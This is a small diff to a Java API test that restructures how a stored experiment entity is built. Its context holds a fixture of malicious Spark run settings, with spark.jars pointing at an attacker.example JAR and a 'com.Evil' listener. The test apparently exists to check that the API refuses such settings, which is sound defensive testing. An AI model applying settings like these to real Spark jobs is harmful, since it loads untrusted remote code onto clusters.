@@ -154,8 +154,8 @@ class RunSettingsApiTest {
         RunSettings stored = new RunSettings(null, null, null, null, null, null,
                 Map.of("spark.jars", "http://attacker.example/evil.jar", "spark.extraListeners", "com.Evil"));
         UUID id = UUID.randomUUID();
-        experiments.saveAndFlush(new ExperimentEntity(id, WorkspaceRef.DEFAULT.id(), "Stored before", null,
-                Graphs.creditSplit(0.8), stored, Instant.now()));
+        experiments.saveAndFlush(new ExperimentEntity(id, WorkspaceRef.DEFAULT.id(), null,
+                new ExperimentFields("Stored before", null, null, Graphs.creditSplit(0.8)), stored, Instant.now()));
 
         Api.Response refused = api.post("/api/experiments/" + id + "/runs", null);
 
